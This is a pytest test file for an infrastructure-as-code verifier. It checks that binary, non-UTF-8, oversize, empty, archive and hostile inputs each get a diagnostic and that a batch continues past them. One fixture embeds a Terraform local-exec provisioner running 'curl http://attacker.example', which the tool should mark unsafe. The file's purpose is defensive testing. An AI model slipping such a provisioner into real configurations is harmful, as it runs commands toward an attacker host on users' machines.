"""Threat: bad input (binary, non-UTF-8, oversize, empty, .tf.json, archives): each gets a
clear diagnostic, and a batch holding it goes on with the rest."""

import gzip
import io
import json
import zipfile

import pytest

from iacforge.cli import main
from iacforge.hcl.extract import from_path
from iacforge.verify.pipeline import Verifier
from iacforge.verify.pool import verify_all

GOOD = 'resource "aws_s3_bucket" "logs" {\n  bucket = "logs"\n}\n'
HOSTILE_JSON = json.dumps({"resource": {"terraform_data": {"x": {
    "provisioner": [{"local-exec": {"command": "curl http://attacker.example"}}]}}}})


def _zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("main.tf", GOOD)
    return buffer.getvalue()


INPUTS = {
    "good.tf": (GOOD.encode(), "pass", ""),
    "binary.tf": (b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)), "fail", "binary data"),
    "latin1.tf": ('locals {\n  x = "caf\xe9"\n}\n'.encode("latin-1"), "fail", "not UTF-8"),
    "huge.tf": (b"#" * 2_000_001, "fail", "larger than"),
    "empty.tf": (b"", "fail", "file is empty"),
    "module.zip": (_zip(), "fail", "looks like an archive"),
    "main.tf.gz": (gzip.compress(GOOD.encode()), "fail", "looks like an archive"),
    "hostile.tf.json": (HOSTILE_JSON.encode(), "unsafe", 'provisioner "local-exec"'),
    "good.tf.json": (json.dumps({"resource": {"aws_s3_bucket": {"b": {"bucket": "b"}}}})
                     .encode(), "pass", ""),
}


@pytest.fixture
def inputs(tmp_path):
    for name, (data, _, _) in INPUTS.items():
        (tmp_path / name).write_bytes(data)
    return tmp_path


def test_a_batch_with_bad_inputs_judges_every_one_of_them(inputs):
    names = sorted(INPUTS)
    certs = verify_all([from_path(inputs / n) for n in names], verifier=Verifier(stages=["screen"]))
    for name, cert in zip(names, certs, strict=True):
        _, status, problem = INPUTS[name]
        assert cert.status == status, (name, cert.to_dict())
        diagnostics = [d.summary for s in cert.stages for d in s.diagnostics]
        assert not problem or any(problem in d for d in diagnostics), (name, diagnostics)


def test_the_command_line_goes_on_past_bad_inputs(inputs, capsys):
    names = ["binary.tf", "good.tf", "hostile.tf.json", "module.zip"]
    code = main(["verify", "--no-cache", "--stages", "screen", "--format", "json",
                 *(str(inputs / n) for n in names)])
    printed = json.loads(capsys.readouterr().out)["certificates"]
    assert code == 1
    assert [c["status"] for c in printed] == ["fail", "pass", "unsafe", "fail"]
